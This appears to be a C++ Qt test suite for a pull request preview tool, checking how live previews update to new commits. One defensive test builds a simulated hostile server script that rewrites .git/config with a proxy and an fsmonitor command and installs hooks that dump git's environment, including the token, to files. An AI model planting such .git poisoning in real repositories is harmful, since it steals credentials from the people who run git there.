// Issue 21, staying current: a live pull request preview brought up to the pull request's new
// commits (ProjectSession::updatePullRequest) on the local back end, isolated with bubblewrap, from a
// real git server on 127.0.0.1 that keeps each pull request as refs/pull/<n>/head.
//
// - An update that changes only source restarts a server without hot reload (env-echo's plain Node
//   server) and installs nothing; a second update with no new commit changes nothing.
// - On Vite, an update of a module restarts nothing: the running dev server serves the new module
//   (and tells the page over its HMR socket).
// - An update that changes the lockfile detects, installs and starts again in the same sandbox.
// - The attack: the pull request's own code rewrites the clone's .git (a proxy for git's requests, a
//   core.fsmonitor command and hooks that copy git's environment, where the token is). An update
//   that ran git in the workspace - as `git pull` there would - sends its requests through that
//   proxy and runs those commands; the update fetches into the project's mirror on this machine
//   instead, so the proxy receives nothing and nothing runs. Watched failing against that naive
//   update (`git fetch` and `git checkout -f FETCH_HEAD` on this machine in the workspace, with
//   GitEnvironment's scrubbed configuration): the proxy got git's first request, and the fsmonitor
//   command wrote git's environment - the token's header with it - to .git/stolen-by-fsmonitor.

#include "CliProcesses.h"
#include "EmulatorFixture.h"
#include "Fixtures.h"
#include "HttpServer.h"
#include "core/Detached.h"
#include "sandbox/LocalProvider.h"
#include "sandbox/daytona/DaytonaProvider.h"
#include "workflow/ProjectSession.h"

#include <QDirIterator>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QNetworkAccessManager>
#include <QNetworkProxy>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using forge::LocalProvider;
using forge::ProjectSession;
using forge::ProjectStatus;
using forge::SourceUpdateAction;
using forge::StepId;
using forge::test::FixtureRepository;
using forge::test::GitHttpServer;
using forge::test::HttpExchange;
using forge::test::HttpResponse;
using forge::test::HttpServer;
using forge::test::RecordedRequest;

namespace {

constexpr int LiveTimeoutMs = 5 * 60 * 1000; // a cold npm install on a slow machine
constexpr int StopTimeoutMs = 60 * 1000;
constexpr auto DaytonaApiKey = "pull-request-update-key";

// An HTTP proxy that proxies nothing: it keeps every request and answers 502.
class RecordingProxy : public HttpServer
{
public:
    RecordingProxy()
    {
        setHandler([](const RecordedRequest&, const std::shared_ptr<HttpExchange>& exchange) {
            exchange->send(HttpResponse{502, {}, {}});
        });
    }
};

// The hostile pull request's server: before serving, it plants in the clone's .git what would turn
// the next git command run there against the user (see the file comment), then serves `text`.
QByteArray hostileServer(quint16 proxyPort, const QByteArray& text)
{
    return "const fs = require('fs');\n"
           "const http = require('http');\n"
           "fs.appendFileSync('.git/config', '[http]\\n\\tproxy = http://127.0.0.1:" +
           QByteArray::number(proxyPort) +
           "\\n[core]\\n\\tfsmonitor = \"env > .git/stolen-by-fsmonitor; false\"\\n');\n"
           "fs.mkdirSync('.git/hooks', {recursive: true});\n"
           "for (const hook of ['post-checkout', 'post-merge', 'reference-transaction'])\n"
           "  fs.writeFileSync('.git/hooks/' + hook, '#!/bin/sh\\nenv > .git/stolen-by-' + hook + '\\n', "
           "{mode: 0o755});\n"
           "http.createServer((req, res) => res.end('<h1 id=\"text\">" +
           text +
           "</h1>'))\n"
           "  .listen(Number(process.env.PORT || 3000), '0.0.0.0');\n";
}

QByteArray plainServer(const QByteArray& text)
{
    return "require('http').createServer((req, res) => res.end('<h1 id=\"text\">" + text +
           "</h1>')).listen(Number(process.env.PORT || 3000), '0.0.0.0');\n";
}

// `json` with the root package's version set to `version` (package.json, or both places a
// package-lock.json keeps it).
QByteArray withVersion(const QByteArray& json, const QString& version)
{
    QJsonObject root = QJsonDocument::fromJson(json).object();
    root.insert(u"version"_s, version);
    if (root.contains(u"packages"_s)) {
        QJsonObject packages = root.value(u"packages"_s).toObject();
        QJsonObject self = packages.value(QString()).toObject();
        self.insert(u"version"_s, version);
        packages.insert(QString(), self);
        root.insert(u"packages"_s, packages);
    }
    return QJsonDocument(root).toJson();
}

QByteArray readFile(const QString& path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

} // namespace

class TestPullRequestUpdate : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void cleanup();
    void aSourceOnlyUpdateRestartsTheServerAndInstallsNothing();
    void aLockfileUpdateInstallsAgainInTheSameSandbox();
    void aViteSourceUpdateIsLeftToHotReload();
    void anUpdateOnDaytonaSendsOnlyTheChangedFiles();
    void anUpdateNeverRunsGitInTheWorkspace();

private:
    // A repository `name` with `files` on main, served, and pull request `number` changing `changed`.
    QString servePullRequest(const QString& name, const QMap<QString, QByteArray>& files, int number,
                             const QMap<QString, QByteArray>& changed);
    // A session for pull request `number` of `name`, started and live; null (with a failed check)
    // otherwise.
    ProjectSession* startLive(const QString& name, int number);
    // Updates the live session and waits for the outcome: the action, or nullopt (with the cause).
    std::optional<SourceUpdateAction> update(QString* cause);
    QByteArray page();
    // The session's workspace on this machine (the local sandbox's, or the emulator's work dir).
    QString workspace() const;
    // The next session runs on Daytona (the emulator) instead of the local back end.
    void useDaytona();
    QStringList stepsStartedDuring(const std::function<void()>& action);

    QTemporaryDir m_work;
    QString m_served;
    std::unique_ptr<GitHttpServer> m_server;
    QMap<QString, std::shared_ptr<FixtureRepository>> m_repositories;
    QNetworkAccessManager m_network;

    std::unique_ptr<QTemporaryDir> m_data;
    std::unique_ptr<forge::SandboxProvider> m_provider;
    LocalProvider* m_local = nullptr; // m_provider, when it is the local back end
    forge::test::EmulatorFixture m_emulator;
    std::unique_ptr<ProjectSession> m_session;
};

void TestPullRequestUpdate::initTestCase()
{
    QVERIFY(m_work.isValid());
    m_network.setProxy(QNetworkProxy::NoProxy);
    m_served = m_work.filePath(u"served"_s);
    m_server = std::make_unique<GitHttpServer>(m_served);
    QString error;
    QVERIFY2(m_server->listen(&error), qPrintable(error));
}

void TestPullRequestUpdate::init()
{
    m_data = std::make_unique<QTemporaryDir>();
    QVERIFY(m_data->isValid());
    auto local = std::make_unique<LocalProvider>(
        LocalProvider::Options{m_data->path(), LocalProvider::Isolation::Bubblewrap, {}});
    m_local = local.get();
    m_provider = std::move(local);
}

void TestPullRequestUpdate::useDaytona()
{
    const QString started = m_emulator.start(QString::fromLatin1(DaytonaApiKey));
    QVERIFY2(started.isEmpty(), qPrintable(started));
    forge::daytona::DaytonaConfig config;
    config.apiKey = QString::fromLatin1(DaytonaApiKey);
    config.apiUrl = m_emulator->apiUrl();
    m_local = nullptr;
    m_provider = std::make_unique<forge::DaytonaProvider>(config, forge::DaytonaSandboxOptions{});
}

QString TestPullRequestUpdate::workspace() const
{
    const QString id = m_session->sandboxId();
    return m_local ? m_local->workspacePath(id) : m_emulator.workspacePath(id);
}

void TestPullRequestUpdate::cleanup()
{
    if (m_session && m_session->isActive()) {
        QSignalSpy ended(m_session.get(), &ProjectSession::runEnded);
        m_session->stop();
        QVERIFY(ended.wait(StopTimeoutMs));
    }
    m_session.reset();
    m_provider.reset();
    m_local = nullptr;
    m_emulator.stop();
    m_data.reset();
}

QString TestPullRequestUpdate::servePullRequest(const QString& name, const QMap<QString, QByteArray>& files,
                                                int number, const QMap<QString, QByteArray>& changed)
{
    auto repository = std::make_shared<FixtureRepository>(m_work.filePath(name));
    if (!repository->initializeWithFiles(files) || !repository->createBareClone(m_served, name))
        return repository->errorString();
    for (auto it = changed.cbegin(); it != changed.cend(); ++it) {
        const bool done = it == changed.cbegin()
                              ? repository->addPullRequest(number, it.key(), it.value())
                              : repository->updatePullRequest(number, {{it.key(), it.value()}});
        if (!done)
            return repository->errorString();
    }
    m_repositories.insert(name, repository);
    return {};
}

ProjectSession* TestPullRequestUpdate::startLive(const QString& name, int number)
{
    const QString address = m_server->repositoryUrl(name).toString() + u"/pull/%1"_s.arg(number);
    const auto parsed = forge::RepoRef::parse(address, QString());
    if (!std::holds_alternative<forge::RepoRef>(parsed)) {
        qWarning("not a pull request address: %s", qPrintable(address));
        return nullptr;
    }
    const forge::Project project =
        forge::newProject(std::get<forge::RepoRef>(parsed), {}, forge::RunMode::Dev);
    m_session = std::make_unique<ProjectSession>(*m_provider, project);
    QSignalSpy ready(m_session.get(), &ProjectSession::previewReady);
    QSignalSpy failed(m_session.get(), &ProjectSession::failed);
    m_session->start();
    if (!ready.wait(LiveTimeoutMs) || m_session->status() != ProjectStatus::Live) {
        qWarning("the preview did not go live: %s",
                 m_session->failure() ? qPrintable(m_session->failure()->message()) : "no failure");
        return nullptr;
    }
    return m_session.get();
}

std::optional<SourceUpdateAction> TestPullRequestUpdate::update(QString* cause)
{
    QSignalSpy updated(m_session.get(), &ProjectSession::pullRequestUpdated);
    QSignalSpy failed(m_session.get(), &ProjectSession::pullRequestUpdateFailed);
    const QString mirror = m_data->filePath(u"pull-requests/project.git"_s);
    forge::detach(m_session->updatePullRequest(mirror), m_session.get(), "the test's update");
    if (!QTest::qWaitFor([&] { return !updated.isEmpty() || !failed.isEmpty(); }, LiveTimeoutMs)) {
        *cause = u"no outcome"_s;
        return std::nullopt;
    }
    if (!failed.isEmpty()) {
        *cause = failed.first().first().toString();
        return std::nullopt;
    }
    return updated.first().at(1).value<SourceUpdateAction>();
}

QByteArray TestPullRequestUpdate::page()
{
    // A Daytona preview is private: it wants the token header its endpoint carries.
    return forge::test::fetchBody(m_network, m_session->previewUrl(), nullptr,
                                  m_session->previewEndpoint().headers);
}

QStringList TestPullRequestUpdate::stepsStartedDuring(const std::function<void()>& action)
{
    QStringList steps;
    const auto connection = connect(m_session.get(), &ProjectSession::stepStarted, this,
                                    [&steps](StepId step) { steps.append(forge::stepName(step)); });
    action();
    disconnect(connection);
    return steps;
}

void TestPullRequestUpdate::aSourceOnlyUpdateRestartsTheServerAndInstallsNothing()
{
    const QByteArray manifest =
        R"({"name": "plain", "version": "1.0.0", "scripts": {"dev": "node server.js"}})";
    const QString problem =
        servePullRequest(u"plain"_s, {{u"package.json"_s, manifest}, {u"server.js"_s, plainServer("main")}},
                         5, {{u"server.js"_s, plainServer("first version")}});
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    QVERIFY(startLive(u"plain"_s, 5));
    QVERIFY2(page().contains("first version"), page().constData());
    const QString first = m_session->checkedOutCommit();
    QCOMPARE(first, m_repositories[u"plain"_s]->commitId(u"pr-5"_s));

    auto& repository = *m_repositories[u"plain"_s];
    QVERIFY2(repository.updatePullRequest(
                 5, {{u"server.js"_s, plainServer("second version")}, {u"NOTES.md"_s, "new"}}),
             qPrintable(repository.errorString()));
    QString cause;
    std::optional<SourceUpdateAction> action;
    const QStringList steps = stepsStartedDuring([&] { action = update(&cause); });
    QVERIFY2(action, qPrintable(cause));
    QCOMPARE(*action, SourceUpdateAction::RestartServer); // a plain Node server has no hot reload
    QCOMPARE(steps, (QStringList{u"start-dev-server"_s, u"publish-preview"_s}));
    QVERIFY(m_session->status() == ProjectStatus::Live);
    QVERIFY2(page().contains("second version"), page().constData());
    QCOMPARE(m_session->checkedOutCommit(), repository.commitId(u"pr-5"_s));
    QVERIFY(m_session->checkedOutCommit() != first);
    QCOMPARE(readFile(workspace() + u"/NOTES.md"_s), QByteArray("new"));

    // Nothing new: nothing happens.
    const QStringList none = stepsStartedDuring([&] { action = update(&cause); });
    QVERIFY2(action, qPrintable(cause));
    QCOMPARE(*action, SourceUpdateAction::None);
    QVERIFY(none.isEmpty());
}

void TestPullRequestUpdate::aLockfileUpdateInstallsAgainInTheSameSandbox()
{
    const QString fixture = forge::test::fixtureProjectPath(u"express-app"_s);
    const QByteArray manifest = readFile(fixture + u"/package.json"_s);
    const QByteArray lockfile = readFile(fixture + u"/package-lock.json"_s);
    QVERIFY(!manifest.isEmpty() && !lockfile.isEmpty());
    const QString problem = servePullRequest(u"express"_s,
                                             {{u"package.json"_s, manifest},
                                              {u"package-lock.json"_s, lockfile},
                                              {u"server.js"_s, readFile(fixture + u"/server.js"_s)}},
                                             6, {{u"README.md"_s, "pull request 6"}});
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    QVERIFY(startLive(u"express"_s, 6));
    const QString sandbox = m_session->sandboxId();

    auto& repository = *m_repositories[u"express"_s];
    QVERIFY2(repository.updatePullRequest(6, {{u"package.json"_s, withVersion(manifest, u"1.0.1"_s)},
                                              {u"package-lock.json"_s, withVersion(lockfile, u"1.0.1"_s)}}),
             qPrintable(repository.errorString()));
    QString cause;
    std::optional<SourceUpdateAction> action;
    const QStringList steps = stepsStartedDuring([&] { action = update(&cause); });
    QVERIFY2(action, qPrintable(cause));
    QCOMPARE(*action, SourceUpdateAction::Reinstall);
    QCOMPARE(steps, (QStringList{u"detect-framework"_s, u"install-dependencies"_s, u"build-project"_s,
                                 u"start-dev-server"_s, u"publish-preview"_s}));
    QCOMPARE(m_session->sandboxId(), sandbox);
    QVERIFY(m_session->status() == ProjectStatus::Live);
    QVERIFY2(page().contains("Express app"), page().constData());
    const QByteArray installed = readFile(workspace() + u"/node_modules/.package-lock.json"_s);
    QVERIFY2(installed.contains("\"version\": \"1.0.1\""), installed.left(300).constData());
}

void TestPullRequestUpdate::aViteSourceUpdateIsLeftToHotReload()
{
    const QString fixture = forge::test::fixtureProjectPath(u"vite-app"_s);
    QMap<QString, QByteArray> files;
    for (const QString& name : {u"package.json"_s, u"index.html"_s, u"main.js"_s})
        files.insert(name, readFile(fixture + u'/' + name));
    const QString problem = servePullRequest(
        u"vite"_s, files, 8, {{u"main.js"_s, files.value(u"main.js"_s) + "// pull request 8\n"}});
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    QVERIFY(startLive(u"vite"_s, 8));
    const QUrl module = m_session->previewUrl().resolved(QUrl(u"/main.js"_s));
    QVERIFY2(forge::test::fetchBody(m_network, module).contains("pull request 8"),
             forge::test::fetchBody(m_network, module).constData());

    auto& repository = *m_repositories[u"vite"_s];
    QVERIFY2(repository.updatePullRequest(8, {{u"main.js"_s, "document.title = 'hot reloaded';\n"}}),
             qPrintable(repository.errorString()));
    QSignalSpy restoring(m_session.get(), &ProjectSession::restoring);
    QString cause;
    std::optional<SourceUpdateAction> action;
    const QStringList steps = stepsStartedDuring([&] { action = update(&cause); });
    QVERIFY2(action, qPrintable(cause));
    QCOMPARE(*action, SourceUpdateAction::HotReload);
    QVERIFY2(steps.isEmpty(), qPrintable(steps.join(u", "_s)));
    QVERIFY(restoring.isEmpty());
    // The same dev server (Vite watches the workspace) serves the new module.
    QTRY_VERIFY_WITH_TIMEOUT(forge::test::fetchBody(m_network, module).contains("hot reloaded"), 30'000);
}

void TestPullRequestUpdate::anUpdateOnDaytonaSendsOnlyTheChangedFiles()
{
    useDaytona();
    const QByteArray manifest =
        R"({"name": "cloud", "version": "1.0.0", "scripts": {"dev": "node server.js"}})";
    const QString problem = servePullRequest(u"cloud"_s,
                                             {{u"package.json"_s, manifest},
                                              {u"server.js"_s, plainServer("main")},
                                              {u"old.txt"_s, "to be removed"}},
                                             9, {{u"server.js"_s, plainServer("on daytona")}});
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    QVERIFY(startLive(u"cloud"_s, 9));
    QVERIFY2(page().contains("on daytona"), page().constData());

    auto& repository = *m_repositories[u"cloud"_s];
    QVERIFY2(repository.updatePullRequest(9, {{u"server.js"_s, plainServer("updated on daytona")}},
                                          {u"old.txt"_s}),
             qPrintable(repository.errorString()));
    m_emulator->clearRequests();
    QString cause;
    const std::optional<SourceUpdateAction> action = update(&cause);
    QVERIFY2(action, qPrintable(cause));
    QCOMPARE(*action, SourceUpdateAction::RestartServer);
    QVERIFY2(page().contains("updated on daytona"), page().constData());
    QVERIFY(!QFile::exists(workspace() + u"/old.txt"_s));
    QCOMPARE(m_session->checkedOutCommit(), repository.commitId(u"pr-9"_s));
    // The new files went up in one upload; git never ran in the sandbox (no token went there).
    int uploads = 0;
    for (const forge::test::DaytonaRequest& request : m_emulator->requests()) {
        uploads += request.path().endsWith("/files/bulk-upload") ? 1 : 0;
        QVERIFY2(!request.body.contains("git"), request.target.constData());
    }
    QCOMPARE(uploads, 1);
}

void TestPullRequestUpdate::anUpdateNeverRunsGitInTheWorkspace()
{
    RecordingProxy proxy;
    QVERIFY(proxy.listen());
    const QByteArray manifest =
        R"({"name": "hostile", "version": "1.0.0", "scripts": {"dev": "node server.js"}})";
    const QString problem =
        servePullRequest(u"hostile"_s, {{u"package.json"_s, manifest}, {u"server.js"_s, plainServer("main")}},
                         7, {{u"server.js"_s, hostileServer(proxy.port(), "planted")}});
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    QVERIFY(startLive(u"hostile"_s, 7));
    QTRY_VERIFY_WITH_TIMEOUT(readFile(workspace() + u"/.git/config"_s).contains("fsmonitor"), 30'000);

    auto& repository = *m_repositories[u"hostile"_s];
    QVERIFY2(repository.updatePullRequest(7, {{u"server.js"_s, hostileServer(proxy.port(), "updated")}}),
             qPrintable(repository.errorString()));
    QString cause;
    const std::optional<SourceUpdateAction> action = update(&cause);
    QVERIFY2(action, qPrintable(cause));
    QVERIFY2(page().contains("updated"), page().constData());

    QVERIFY2(proxy.requests().isEmpty(), "the update's git used the proxy the repository planted");
    QStringList stolen;
    for (QDirIterator it(workspace() + u"/.git"_s, {u"stolen-*"_s}, QDir::Files); it.hasNext();)
        stolen << it.next();
    QVERIFY2(stolen.isEmpty(), qPrintable(stolen.join(u", "_s)));
}

QTEST_GUILESS_MAIN(TestPullRequestUpdate)
#include "tst_pullrequestupdate.moc"
